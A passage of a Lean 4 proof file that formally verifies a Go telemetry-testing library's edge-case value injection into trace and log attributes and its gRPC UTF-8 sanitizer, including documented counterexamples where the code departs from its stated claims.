  rw [h] at hc
  obtain ⟨d, hd, hkey⟩ := List.mem_map.mp hc
  have := metaKey_injective d c hkey
  subst this
  exact (List.mem_filter.mp hd).2

/-- C8. For `ApplyAggroToTraceAttributes` and `ApplyAggroToLogAttributes`, the
keys of the returned metadata form a sublist of "aggro.string", "aggro.numeric",
"aggro.timestamp" in that order, no key is repeated, there are at most three
entries, and an entry for a category is present only if the category is
active. -/
theorem metadata_keys_are_ordered_categories {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    ((keysOf (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata).Sublist
        [lit "aggro.string", lit "aggro.numeric", lit "aggro.timestamp"] ∧
      (keysOf (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata).Nodup ∧
      (keysOf (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata).length
        ≤ 3 ∧
      (∀ c : Category,
        c.metaKey ∈ keysOf (ApplyAggroToTraceAttributes env config attrs skipKeys protocol
          g).metadata → config.active c = true)) ∧
    ((keysOf (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
          g).metadata).Sublist
        [lit "aggro.string", lit "aggro.numeric", lit "aggro.timestamp"] ∧
      (keysOf (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
          g).metadata).Nodup ∧
      (keysOf (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
          g).metadata).length ≤ 3 ∧
      (∀ c : Category,
        c.metaKey ∈ keysOf (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
          g).metadata → config.active c = true)) := by
  obtain ⟨kf, vf, _, hm, _⟩ := trace_master env config attrs skipKeys protocol g
  obtain ⟨kl, vl, _, hml, _⟩ := log_master env config attrs logMessage skipKeys protocol g
  constructor
  · obtain ⟨h1, h2, h3, h4⟩ := metaKeys_facts _ _ (hm ▸ metaKeys_of_metadata (α := α) kf _)
    exact ⟨h1, h2, h3, fun c hc => ((traceFires_iff _ _ _).mp (h4 c hc)).1⟩
  · obtain ⟨h1, h2, h3, h4⟩ := metaKeys_facts _ _ (hml ▸ metaKeys_of_metadata (α := α) kl _)
    exact ⟨h1, h2, h3, fun c hc => ((logFires_iff _ _ _).mp (h4 c hc)).1⟩

theorem decodeRuneValid_scalar (s : GoString) (r n : Nat)
    (h : decodeRuneValid s = some (r, n)) : IsScalar r := by
  unfold IsScalar
  cases s with
  | nil => simp [decodeRuneValid] at h
  | cons p0 rest =>
    by_cases h1 : p0 < 0x80
    · simp [decodeRuneValid, h1] at h; omega
    by_cases h2 : p0 < 0xC2
    · simp [decodeRuneValid, h1, h2] at h
    by_cases h3 : p0 < 0xE0
    · cases rest with
      | nil => simp [decodeRuneValid, h1, h2, h3] at h
      | cons b1 t =>
        simp [decodeRuneValid, h1, h2, h3] at h
        omega
    by_cases h4 : p0 < 0xF0
    · rcases rest with _ | ⟨b1, _ | ⟨b2, t⟩⟩
      · simp [decodeRuneValid, h1, h2, h3, h4] at h
      · simp [decodeRuneValid, h1, h2, h3, h4] at h
      · by_cases e0 : p0 = 0xE0 <;> by_cases ed : p0 = 0xED <;>
          simp [decodeRuneValid, h1, h2, h3, h4, e0, ed] at h <;> omega
    by_cases h5 : p0 < 0xF5
    · rcases rest with _ | ⟨b1, _ | ⟨b2, _ | ⟨b3, t⟩⟩⟩
      · simp [decodeRuneValid, h1, h2, h3, h4, h5] at h
      · simp [decodeRuneValid, h1, h2, h3, h4, h5] at h
      · simp [decodeRuneValid, h1, h2, h3, h4, h5] at h
      · by_cases f0 : p0 = 0xF0 <;> by_cases f4 : p0 = 0xF4 <;>
          simp [decodeRuneValid, h1, h2, h3, h4, h5, f0, f4] at h <;> omega
    · simp [decodeRuneValid, h1, h2, h3, h4, h5] at h

theorem decodeRuneValid_EncodeRune (r : Nat) (rest : GoString) (hr : IsScalar r) :
    decodeRuneValid (EncodeRune r ++ rest) = some (r, (EncodeRune r).length) := by
  unfold IsScalar at hr
  by_cases h1 : r ≤ 0x7F
  · have : r < 128 := by omega
    simp [EncodeRune, h1, decodeRuneValid, this]
  by_cases h2 : r ≤ 0x7FF
  · simp only [EncodeRune, h1, h2, if_false, if_true, List.cons_append, List.nil_append,
      decodeRuneValid, List.length_cons, List.length_nil]
    have a1 : ¬ (0xC0 + r / 64 < 0x80) := by omega
    have a2 : ¬ (0xC0 + r / 64 < 0xC2) := by omega
    have a3 : 0xC0 + r / 64 < 0xE0 := by omega
    have a4 : 0x80 ≤ 0x80 + r % 64 ∧ 0x80 + r % 64 ≤ 0xBF := by omega
    have a5 : (0xC0 + r / 64) % 32 * 64 + (0x80 + r % 64) % 64 = r := by omega
    simp only [a1, a2, a3, a4, a5, if_false, if_true, and_self]
  have hs : ¬ (r > MaxRune ∨ (0xD800 ≤ r ∧ r ≤ 0xDFFF)) := by
    unfold MaxRune; omega
  by_cases h3 : r ≤ 0xFFFF
  · simp only [EncodeRune, h1, h2, hs, h3, if_false, if_true, List.cons_append, List.nil_append,
      decodeRuneValid, List.length_cons, List.length_nil]
    have a1 : ¬ (0xE0 + r / 4096 < 0x80) := by omega
    have a2 : ¬ (0xE0 + r / 4096 < 0xC2) := by omega
    have a3 : ¬ (0xE0 + r / 4096 < 0xE0) := by omega
    have a4 : 0xE0 + r / 4096 < 0xF0 := by omega
    have a5 : (0xE0 + r / 4096) % 16 * 4096 + (0x80 + r / 64 % 64) % 64 * 64 +
        (0x80 + r % 64) % 64 = r := by omega
    have a6 : (if 0xE0 + r / 4096 = 0xE0 then 0xA0 else 0x80) ≤ 0x80 + r / 64 % 64 := by
      split <;> omega
    have a7 : 0x80 + r / 64 % 64 ≤ (if 0xE0 + r / 4096 = 0xED then 0x9F else 0xBF) := by
      split <;> omega
    have a8 : 0x80 ≤ 0x80 + r % 64 ∧ 0x80 + r % 64 ≤ 0xBF := by omega
    simp only [a1, a2, a3, a4, a5, a6, a7, a8, if_false, if_true, and_self]
  · simp only [EncodeRune, h1, h2, hs, h3, if_false, List.cons_append, List.nil_append,
      decodeRuneValid, List.length_cons, List.length_nil]
    have a1 : ¬ (0xF0 + r / 262144 < 0x80) := by omega
    have a2 : ¬ (0xF0 + r / 262144 < 0xC2) := by omega
    have a3 : ¬ (0xF0 + r / 262144 < 0xE0) := by omega
    have a4 : ¬ (0xF0 + r / 262144 < 0xF0) := by omega
    have a4' : 0xF0 + r / 262144 < 0xF5 := by omega
    have a5 : (0xF0 + r / 262144) % 8 * 262144 + (0x80 + r / 4096 % 64) % 64 * 4096 +
        (0x80 + r / 64 % 64) % 64 * 64 + (0x80 + r % 64) % 64 = r := by omega
    have a6 : (if 0xF0 + r / 262144 = 0xF0 then 0x90 else 0x80) ≤ 0x80 + r / 4096 % 64 := by
      split <;> omega
    have a7 : 0x80 + r / 4096 % 64 ≤ (if 0xF0 + r / 262144 = 0xF4 then 0x8F else 0xBF) := by
      split <;> omega
    have a8 : 0x80 ≤ 0x80 + r / 64 % 64 ∧ 0x80 + r / 64 % 64 ≤ 0xBF := by omega
    have a9 : 0x80 ≤ 0x80 + r % 64 ∧ 0x80 + r % 64 ≤ 0xBF := by omega
    simp only [a1, a2, a3, a4, a4', a5, a6, a7, a8, a9, if_false, if_true, and_self]

theorem EncodeRune_length_pos (r : Nat) : 0 < (EncodeRune r).length := by
  unfold EncodeRune
  split
  · simp
  · split
    · simp
    · split
      · simp
      · split <;> simp

theorem validFrom_skip (l rest : GoString) :
    validFrom l.length (l ++ rest) = validFrom 0 rest := by
  induction l with
  | nil => rfl
  | cons b t ih => simpa [validFrom] using ih

theorem rangeRunes_skip (l rest : GoString) :
    rangeRunes l.length (l ++ rest) = rangeRunes 0 rest := by
  induction l with
  | nil => rfl
  | cons b t ih => simpa [rangeRunes] using ih

theorem validFrom_EncodeRune (r : Nat) (rest : GoString) (hr : IsScalar r) :
    validFrom 0 (EncodeRune r ++ rest) = validFrom 0 rest := by
  have hd := decodeRuneValid_EncodeRune r rest hr
  have hlen := EncodeRune_length_pos r
  cases he : EncodeRune r with
  | nil => rw [he] at hlen; simp at hlen
  | cons b t =>
    rw [he] at hd
    simp only [List.cons_append] at hd ⊢
    simp only [validFrom, hd, List.length_cons, Nat.add_sub_cancel]
    exact validFrom_skip t rest

theorem rangeRunes_EncodeRune (r : Nat) (rest : GoString) (hr : IsScalar r) :
    rangeRunes 0 (EncodeRune r ++ rest) = r :: rangeRunes 0 rest := by
  have hd := decodeRuneValid_EncodeRune r rest hr
  have hlen := EncodeRune_length_pos r
  cases he : EncodeRune r with
  | nil => rw [he] at hlen; simp at hlen
  | cons b t =>
    rw [he] at hd
    simp only [List.cons_append] at hd ⊢
    simp only [rangeRunes, hd, List.length_cons, Nat.add_sub_cancel]
    rw [rangeRunes_skip t rest]

theorem rangeRunes_scalar (skip : Nat) (s : GoString) :
    ∀ r ∈ rangeRunes skip s, IsScalar r := by
  induction s generalizing skip with
  | nil => simp [rangeRunes]
  | cons p0 rest ih =>
    cases skip with
    | succ k => simpa [rangeRunes] using ih k
    | zero =>
      intro r hr
      simp only [rangeRunes] at hr
      cases hd : decodeRuneValid (p0 :: rest) with
      | none =>
        rw [hd] at hr
        simp only [List.mem_cons] at hr
        rcases hr with rfl | hr
        · unfold IsScalar RuneError; omega
        · exact ih 0 r hr
      | some p =>
        obtain ⟨r0, size⟩ := p
        rw [hd] at hr
        simp only [List.mem_cons] at hr
        rcases hr with rfl | hr
        · exact decodeRuneValid_scalar _ _ _ hd
        · exact ih _ r hr

theorem ValidString_stringOfRunes (rs : List Nat) (h : ∀ r ∈ rs, IsScalar r) :
    ValidString (stringOfRunes rs) = true := by
  unfold ValidString stringOfRunes
  induction rs with
  | nil => rfl
  | cons r t ih =>
    simp only [List.map_cons, List.flatten_cons]
    rw [validFrom_EncodeRune r _ (h r (by simp))]
    exact ih (fun x hx => h x (by simp [hx]))

theorem isProblematicControlChar_iff (b : Nat) :
    isProblematicControlChar b = true ↔
      (b ≤ 8 ∨ b = 11 ∨ b = 12 ∨ (14 ≤ b ∧ b ≤ 31) ∨ b = 127) := by
  unfold isProblematicControlChar
  split
  · simp; omega
  · split
    · simp; omega
    · split
      · simp; omega
      · split
        · simp; omega
        · split
          · simp; omega
          · simp; omega

theorem EncodeRune_bytes_safe (r : Nat) (hv : isValidRuneForGRPC r = true) :
    ∀ b ∈ EncodeRune r, isProblematicControlChar b = false := by
  intro b hb
  have hnot : ¬ (b ≤ 8 ∨ b = 11 ∨ b = 12 ∨ (14 ≤ b ∧ b ≤ 31) ∨ b = 127) := by
    unfold isValidRuneForGRPC at hv
    unfold EncodeRune at hb
    split at hb
    · simp only [List.mem_singleton] at hb
      subst hb
      split at hv
      · simp at hv; omega
      · split at hv
        · simp at hv
        · omega
    · split at hb
      · simp at hb; omega
      · split at hb
        · simp at hb; omega
        · split at hb
          · simp at hb; omega
          · simp at hb; omega
  cases hp : isProblematicControlChar b with
  | false => rfl
  | true => exact absurd ((isProblematicControlChar_iff b).mp hp) hnot

theorem stringOfRunes_bytes_safe (rs : List Nat) (h : ∀ r ∈ rs, isValidRuneForGRPC r = true) :
    ∀ b ∈ stringOfRunes rs, isProblematicControlChar b = false := by
  intro b hb
  simp only [stringOfRunes, List.mem_flatten, List.mem_map] at hb
  obtain ⟨l, ⟨r, hr, rfl⟩, hbl⟩ := hb
  exact EncodeRune_bytes_safe r (h r hr) b hbl

theorem isValidUTF8ForGRPC_iff (s : GoString) :
    isValidUTF8ForGRPC s = true ↔
      ValidString s = true ∧ ∀ b ∈ s, isProblematicControlChar b = false := by
  unfold isValidUTF8ForGRPC
  cases hv : ValidString s <;> simp

/-- The result of the sanitizer passes the check of its own fast path. -/
theorem isValidUTF8ForGRPC_sanitizeForGRPC (s : GoString) :
    isValidUTF8ForGRPC (sanitizeForGRPC s) = true := by
  unfold sanitizeForGRPC
  cases hs : isValidUTF8ForGRPC s with
  | true => simpa using hs
  | false =>
    simp only [Bool.false_eq_true, if_false]
    rw [isValidUTF8ForGRPC_iff]
    exact ⟨ValidString_stringOfRunes _
        (fun r hr => rangeRunes_scalar 0 s r (List.mem_filter.mp hr).1),
      stringOfRunes_bytes_safe _ (fun r hr => (List.mem_filter.mp hr).2)⟩

/-! ## Lemmas: the draws of the random source -/

theorem RandomChoice_eq_pick (l : List GoString) (g : Rng) (h : l ≠ []) :
    RandomChoice l g = (pick l (g.draws g.pos), ⟨g.draws, g.pos + 1⟩) := by
  have hpos : 0 < l.length := List.length_pos.mpr h
  have hn : ¬ l.length < 1 := by omega
  simp [RandomChoice, hn, pick, GetRandom]

theorem applyAggroToTraceAttributes_draws {α : Type} (attrs : List (KeyValue α))
    (values : List GoString) (target : GoString) (skipKeys : List GoString) (g : Rng)
    (hv : values ≠ []) :
    (applyAggroToTraceAttributes attrs values target skipKeys g).modified =
        decide (availableTraceKeys attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys attrs skipKeys)) ∧
      (applyAggroToTraceAttributes attrs values target skipKeys g).rng =
        ⟨g.draws, g.pos +
          (if (applyAggroToTraceAttributes attrs values target skipKeys g).modified then
            (if target = [] then 2 else 1) else 0)⟩ ∧
      (applyAggroToTraceAttributes attrs values target skipKeys g).targetKey =
        (if (applyAggroToTraceAttributes attrs values target skipKeys g).modified then
          (if target = [] then pick (availableTraceKeys attrs skipKeys) (g.draws g.pos)
            else target) else []) := by
  by_cases hav : availableTraceKeys attrs skipKeys = []
  · simp [applyAggroToTraceAttributes, hav]
  · by_cases ht : target = []
    · simp [applyAggroToTraceAttributes, hav, ht, RandomChoice_eq_pick _ _ hv,
        RandomChoice_eq_pick _ _ hav]
    · by_cases hf : target ∈ availableTraceKeys attrs skipKeys
      · have hfi := (foundIn_iff target _).mpr hf
        simp [applyAggroToTraceAttributes, hav, ht, hf, hfi, RandomChoice_eq_pick _ _ hv]
      · have hfi : foundIn target (availableTraceKeys attrs skipKeys) = false := by
          cases hb : foundIn target (availableTraceKeys attrs skipKeys) with
          | false => rfl
          | true => exact absurd ((foundIn_iff _ _).mp hb) hf
        simp [applyAggroToTraceAttributes, hav, ht, hf, hfi]

theorem tracePhase_draws {α : Type} (values : List GoString) (name target : GoString)
    (active : Bool) (skipKeys : List GoString) (s : TraceResult α) (hv : values ≠ []) :
    (tracePhase values name target active skipKeys s).rng =
        ⟨s.rng.draws, s.rng.pos +
          (if decide (active = true ∧ availableTraceKeys s.attrs skipKeys ≠ [] ∧
            (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys)) then
            (if target = [] then 2 else 1) else 0)⟩ ∧
      (tracePhase values name target active skipKeys s).metadata =
        s.metadata ++
          (if decide (active = true ∧ availableTraceKeys s.attrs skipKeys ≠ [] ∧
            (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys)) then
            [attributeString name
              (if target = [] then pick (availableTraceKeys s.attrs skipKeys) (s.rng.draws s.rng.pos)
                else target)]
          else []) := by
  have hlen : values.length > 0 := List.length_pos.mpr hv
  cases active with
  | false => simp [tracePhase]
  | true =>
    obtain ⟨hm, hr, hk⟩ := applyAggroToTraceAttributes_draws s.attrs values target skipKeys s.rng hv
    cases hmod : (applyAggroToTraceAttributes s.attrs values target skipKeys s.rng).modified with
    | false =>
      rw [hmod] at hm hr hk
      have hd : ¬ (availableTraceKeys s.attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys)) := by
        intro h
        have := decide_eq_true h
        rw [← hm] at this
        exact Bool.false_ne_true this
      simp only [tracePhase, if_true, hlen, hmod, true_and]
      simp only [decide_eq_false hd, Bool.false_eq_true, if_false, List.append_nil, and_true]
      simpa using hr
    | true =>
      rw [hmod] at hm hr hk
      have hd : availableTraceKeys s.attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys) :=
        of_decide_eq_true hm.symm
      simp only [tracePhase, if_true, hlen, hmod, true_and]
      simp only [decide_eq_true hd, if_true]
      simp only [if_true] at hr hk
      exact ⟨hr, by rw [hk]⟩

/-- The metadata of `ApplyAggroToTraceAttributes` in closed form: one entry per
category that fires, in processing order, valued with the target choice of the
category. -/
theorem trace_metadata_formula {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString) (g : Rng) :
    (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata =
      (Category.order.filter (traceFires config (availableTraceKeys attrs skipKeys))).map
        (fun c => attributeString c.metaKey
          (chosenTarget config (availableTraceKeys attrs skipKeys) g c)) := by
  rw [ApplyAggroToTraceAttributes_eq_phases]
  have hv := categoryValues_ne_nil env protocol
  generalize hs0 : (⟨attrs, [], g⟩ : TraceResult α) = s0
  have h0a : s0.attrs = attrs := by rw [← hs0]
  have h0m : s0.metadata = [] := by rw [← hs0]
  have h0r : s0.rng = g := by rw [← hs0]
  generalize hs1 : tracePhase (categoryValues env protocol .string) Category.string.metaKey
    (config.target .string) (config.active .string) skipKeys s0 = s1
  generalize hs2 : tracePhase (categoryValues env protocol .numeric) Category.numeric.metaKey
    (config.target .numeric) (config.active .numeric) skipKeys s1 = s2
  have hk1 : keysOf s1.attrs = keysOf attrs := by
    rw [← hs1, tracePhase_keysOf _ _ _ _ _ _ (hv _), h0a]
  have hk2 : keysOf s2.attrs = keysOf attrs := by
    rw [← hs2, tracePhase_keysOf _ _ _ _ _ _ (hv _), hk1]
  have hav0 : availableTraceKeys s0.attrs skipKeys = availableTraceKeys attrs skipKeys := by
    rw [h0a]
  have hav1 := availableTraceKeys_congr s1.attrs attrs skipKeys hk1
  have hav2 := availableTraceKeys_congr s2.attrs attrs skipKeys hk2
  obtain ⟨hr1, hm1⟩ := tracePhase_draws (categoryValues env protocol .string)
    Category.string.metaKey (config.target .string) (config.active .string) skipKeys s0 (hv _)
  obtain ⟨hr2, hm2⟩ := tracePhase_draws (categoryValues env protocol .numeric)
    Category.numeric.metaKey (config.target .numeric) (config.active .numeric) skipKeys s1 (hv _)
  obtain ⟨_, hm3⟩ := tracePhase_draws (categoryValues env protocol .timestamp)
    Category.timestamp.metaKey (config.target .timestamp) (config.active .timestamp) skipKeys s2
    (hv _)
  rw [hs1] at hr1 hm1
  rw [hs2] at hr2 hm2
  rw [hav0, h0r] at hr1 hm1
  rw [hav1] at hr2 hm2
  rw [hav2] at hm3
  rw [h0m] at hm1
  have e1 : decide (config.active .string = true ∧ availableTraceKeys attrs skipKeys ≠ [] ∧
      (config.target .string = [] ∨ config.target .string ∈ availableTraceKeys attrs skipKeys)) =
      traceFires config (availableTraceKeys attrs skipKeys) .string := rfl
  have e2 : decide (config.active .numeric = true ∧ availableTraceKeys attrs skipKeys ≠ [] ∧
      (config.target .numeric = [] ∨ config.target .numeric ∈ availableTraceKeys attrs skipKeys)) =
      traceFires config (availableTraceKeys attrs skipKeys) .numeric := rfl
  have e3 : decide (config.active .timestamp = true ∧ availableTraceKeys attrs skipKeys ≠ [] ∧
      (config.target .timestamp = [] ∨
        config.target .timestamp ∈ availableTraceKeys attrs skipKeys)) =
      traceFires config (availableTraceKeys attrs skipKeys) .timestamp := rfl
  rw [e1] at hr1 hm1
  rw [e2] at hr2 hm2
  rw [e3] at hm3
  rw [hm3, hm2, hm1, hr2, hr1]
  simp only [Category.order, List.filter_cons, List.filter_nil, chosenTarget, drawsBefore,
    drawsUsed]
  cases traceFires config (availableTraceKeys attrs skipKeys) .string <;>
    cases traceFires config (availableTraceKeys attrs skipKeys) .numeric <;>
    cases traceFires config (availableTraceKeys attrs skipKeys) .timestamp <;>
    simp [Nat.add_assoc]

/-! ## Theorems: the sanitizer and the corpora -/

/-- C11. For every string `s`, `sanitizeForGRPC s` is valid UTF-8 and contains no
byte in 0x00-0x08, 0x0B, 0x0C, 0x0E-0x1F, 0x7F: `isValidUTF8ForGRPC` accepts
it. -/
theorem sanitized_is_valid_for_grpc (s : GoString) :
    isValidUTF8ForGRPC (sanitizeForGRPC s) = true ∧
    ValidString (sanitizeForGRPC s) = true ∧
    ∀ b ∈ sanitizeForGRPC s,
      ¬ (b ≤ 8 ∨ b = 11 ∨ b = 12 ∨ (14 ≤ b ∧ b ≤ 31) ∨ b = 127) := by
  have key := isValidUTF8ForGRPC_sanitizeForGRPC s
  obtain ⟨h1, h2⟩ := (isValidUTF8ForGRPC_iff _).mp key
  refine ⟨key, h1, ?_⟩
  intro b hb hbad
  have := h2 b hb
  rw [(isProblematicControlChar_iff b).mpr hbad] at this
  exact Bool.noConfusion this

/-- C12. The function `sanitizeForGRPC` is idempotent, on every string (valid
UTF-8 or not). -/
theorem sanitize_is_idempotent (x : GoString) :
    sanitizeForGRPC (sanitizeForGRPC x) = sanitizeForGRPC x := by
  have h := isValidUTF8ForGRPC_sanitizeForGRPC x
  generalize sanitizeForGRPC x = y at h
  simp [sanitizeForGRPC, h]

/-- C13, the code at the failing input. The bytes EF BF BD are the valid
encoding of U+FFFD, and alone they pass the fast path unchanged; but in a
string that also contains a NUL byte the slow path removes them together with
the NUL, because `isValidRuneForGRPC` rejects every rune equal to
`utf8.RuneError`, whether it comes from an invalid byte or from a valid
encoding of U+FFFD. -/
theorem valid_replacement_character_is_dropped :
    decodeRuneValid [0xEF, 0xBF, 0xBD] = some (0xFFFD, 3) ∧
    ValidString [0x00, 0xEF, 0xBF, 0xBD] = true ∧
    sanitizeForGRPC [0xEF, 0xBF, 0xBD] = [0xEF, 0xBF, 0xBD] ∧
    sanitizeForGRPC [0x00, 0xEF, 0xBF, 0xBD] = [] ∧
    sanitizeForGRPC ([0x00, 0xEF, 0xBF, 0xBD] ++ lit "A") = lit "A" := by
  decide

/-- C14. Fast path: a string that is valid UTF-8 and contains no byte in
0x00-0x08, 0x0B, 0x0C, 0x0E-0x1F, 0x7F passes the check `isValidUTF8ForGRPC`,
and `sanitizeForGRPC` returns it unchanged. -/
theorem clean_string_is_returned_unchanged (s : GoString) (hv : ValidString s = true)
    (hb : ∀ b ∈ s, ¬ (b ≤ 8 ∨ b = 11 ∨ b = 12 ∨ (14 ≤ b ∧ b ≤ 31) ∨ b = 127)) :
    isValidUTF8ForGRPC s = true ∧ sanitizeForGRPC s = s := by
  have h : isValidUTF8ForGRPC s = true := by
    rw [isValidUTF8ForGRPC_iff]
    refine ⟨hv, fun b hbs => ?_⟩
    cases hp : isProblematicControlChar b with
    | false => rfl
    | true => exact absurd ((isProblematicControlChar_iff b).mp hp) (hb b hbs)
  exact ⟨h, by simp [sanitizeForGRPC, h]⟩

/-- C14 on a string with a tab, a line feed and characters of two, three and
four bytes. -/
theorem clean_string_is_returned_unchanged_witness :
    ValidString (lit "a\tb\né€😀") = true ∧
    (∀ b ∈ lit "a\tb\né€😀", ¬ (b ≤ 8 ∨ b = 11 ∨ b = 12 ∨ (14 ≤ b ∧ b ≤ 31) ∨ b = 127)) ∧
    isValidUTF8ForGRPC (lit "a\tb\né€😀") = true ∧
    sanitizeForGRPC (lit "a\tb\né€😀") = lit "a\tb\né€😀" :=
  ⟨by decide, by decide,
   clean_string_is_returned_unchanged (lit "a\tb\né€😀") (by decide) (by decide)⟩

/-- C15. Loose mode passes values through unchanged. For every protocol other
than "grpc", `GetAggroValuesForProtocol` equals `GetAggroValues`, and the string
block of `ApplyAggroToTraceAttributes` and of `ApplyAggroToLogAttributes` works
on exactly `GetAggroStrings`. For "grpc" the string part is the entry-by-entry
image of `GetAggroStrings` under `sanitizeForGRPC`, of the same length and
order. -/
theorem loose_protocol_passes_strings_through {T α : Type} (env : Env T)
    (config : AggroConfig) (attrs : List (KeyValue α)) (logMessage : GoString)
    (skipKeys : List GoString) (g : Rng) (protocol : GoString)
    (hloose : protocol ≠ lit "grpc") :
    GetAggroValuesForProtocol env protocol = GetAggroValues env ∧
    ApplyAggroToTraceAttributes env config attrs skipKeys protocol g =
      tracePhase (categoryValues env protocol .timestamp) (lit "aggro.timestamp")
        config.TimestampTarget config.TimestampActive skipKeys
        (tracePhase (GetAggroNumerics env) (lit "aggro.numeric")
          config.NumericTarget config.NumericActive skipKeys
          (tracePhase (GetAggroStrings env) (lit "aggro.string")
            config.StringTarget config.StringActive skipKeys ⟨attrs, [], g⟩)) ∧
    ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g =
      logPhase (categoryValues env protocol .timestamp) (lit "aggro.timestamp")
        config.TimestampTarget config.TimestampActive skipKeys
        (logPhase (GetAggroNumerics env) (lit "aggro.numeric")
          config.NumericTarget config.NumericActive skipKeys
          (logPhase (GetAggroStrings env) (lit "aggro.string")
            config.StringTarget config.StringActive skipKeys ⟨attrs, logMessage, [], g⟩)) ∧
    GetAggroValuesForProtocol env (lit "grpc") =
      (GetAggroStrings env).map sanitizeForGRPC ++ GetAggroNumerics env ++
        categoryValues env (lit "grpc") .timestamp ∧
    ((GetAggroStrings env).map sanitizeForGRPC).length = (GetAggroStrings env).length ∧
    (∀ (i : Nat) (s : GoString), (GetAggroStrings env)[i]? = some s →
      ((GetAggroStrings env).map sanitizeForGRPC)[i]? = some (sanitizeForGRPC s)) ∧
    ApplyAggroToTraceAttributes env config attrs skipKeys (lit "grpc") g =
      tracePhase (categoryValues env (lit "grpc") .timestamp) (lit "aggro.timestamp")
        config.TimestampTarget config.TimestampActive skipKeys
        (tracePhase (GetAggroNumerics env) (lit "aggro.numeric")
          config.NumericTarget config.NumericActive skipKeys
          (tracePhase ((GetAggroStrings env).map sanitizeForGRPC) (lit "aggro.string")
            config.StringTarget config.StringActive skipKeys ⟨attrs, [], g⟩)) ∧
    ApplyAggroToLogAttributes env config attrs logMessage skipKeys (lit "grpc") g =
      logPhase (categoryValues env (lit "grpc") .timestamp) (lit "aggro.timestamp")
        config.TimestampTarget config.TimestampActive skipKeys
        (logPhase (GetAggroNumerics env) (lit "aggro.numeric")
          config.NumericTarget config.NumericActive skipKeys
          (logPhase ((GetAggroStrings env).map sanitizeForGRPC) (lit "aggro.string")
            config.StringTarget config.StringActive skipKeys ⟨attrs, logMessage, [], g⟩)) := by
  have hs : categoryValues env protocol .string = GetAggroStrings env := by
    simp [categoryValues, hloose]
  have hg : categoryValues env (lit "grpc") .string = (GetAggroStrings env).map sanitizeForGRPC := by
    simp [categoryValues]
  have hn : ∀ p, categoryValues env p .numeric = GetAggroNumerics env := fun _ => rfl
  refine ⟨?_, ?_, ?_, ?_, by simp, ?_, ?_, ?_⟩
  · simp [GetAggroValuesForProtocol, GetAggroValues, hloose]
  · rw [ApplyAggroToTraceAttributes_eq_phases, hs, hn]; rfl
  · rw [ApplyAggroToLogAttributes_eq_phases, hs, hn]; rfl
  · simp [GetAggroValuesForProtocol, appendTimestampValues_eq, categoryValues]
  · intro i s hi
    simp [hi]
  · rw [ApplyAggroToTraceAttributes_eq_phases, hg, hn]; rfl
  · rw [ApplyAggroToLogAttributes_eq_phases, hg, hn]; rfl

/-- C15 on the protocol "http": the combined corpus is the unsanitized one. -/
theorem loose_protocol_passes_strings_through_witness :
    lit "http" ≠ lit "grpc" ∧
    GetAggroValuesForProtocol sampleEnv (lit "http") = GetAggroValues sampleEnv :=
  ⟨by decide,
   (loose_protocol_passes_strings_through sampleEnv configAllRandom sampleAttrs
      (lit "example-log-1") [lit "http.method"] (constRng 0) (lit "http") (by decide)).1⟩

/-- C16, the code at the failing input. The type switch of `formatValue` has no
case for int8, int16, uint8, uint16, uint32 and uint64, so the eight table
entries of these types are rendered as the empty string: the numeric corpus
holds eight empty strings at positions 4 to 11, in every environment, where
the claim expects "32767", "-32768", "127", "-128", "18446744073709551615",
"4294967295", "65535" and "255". Values of type int, and the infinities and
NaN, are rendered as the claim says. -/
theorem narrow_integer_types_render_empty {T : Type} (env : Env T) :
    formatValue env (.int16 32767) = [] ∧
    formatValue env (.int16 (-32768)) = [] ∧
    formatValue env (.int8 127) = [] ∧
    formatValue env (.int8 (-128)) = [] ∧
    formatValue env (.uint64 18446744073709551615) = [] ∧
    formatValue env (.uint32 4294967295) = [] ∧
    formatValue env (.uint16 65535) = [] ∧
    formatValue env (.uint8 255) = [] ∧
    ((GetAggroNumerics env).drop 4).take 8 = List.replicate 8 [] ∧
    [] ∈ GetAggroNumerics env ∧
    formatValue env (.int 9223372036854775807) = lit "9223372036854775807" ∧
    formatValue env (.float64 0x7FF0000000000000) = lit "+Inf" ∧
    formatValue env (.float64 0xFFF0000000000000) = lit "-Inf" ∧
    formatValue env (.float64 0x7FF8000000000001) = lit "NaN" := by
  have h : ((GetAggroNumerics env).drop 4).take 8 = List.replicate 8 [] := rfl
  have hi : FormatInt 9223372036854775807 = lit "9223372036854775807" := by decide
  refine ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, h, ?_, hi, rfl, rfl, rfl⟩
  have hm : ([] : GoString) ∈ ((GetAggroNumerics env).drop 4).take 8 := by
    rw [h]; simp
  exact List.mem_of_mem_drop (List.mem_of_mem_take hm)

theorem flatten_pairs_getElem? {A B : Type} (f h : A → B) (ts : List A) (i : Nat) (t : A)
    (hi : ts[i]? = some t) :
    ((ts.map (fun x => [f x, h x])).flatten)[2 * i]? = some (f t) ∧
    ((ts.map (fun x => [f x, h x])).flatten)[2 * i + 1]? = some (h t) := by
  induction ts generalizing i with
  | nil => simp at hi
  | cons a rest ih =>
    cases i with
    | zero =>
      simp at hi
      subst hi
      simp
    | succ j =>
      simp only [List.getElem?_cons_succ] at hi
      have := ih j hi
      have e1 : 2 * (j + 1) = (2 * j) + 1 + 1 := by omega
      rw [e1]
      simpa using this

theorem flatten_pairs_length {A B : Type} (f h : A → B) (ts : List A) :
    ((ts.map (fun x => [f x, h x])).flatten).length = 2 * ts.length := by
  induction ts with
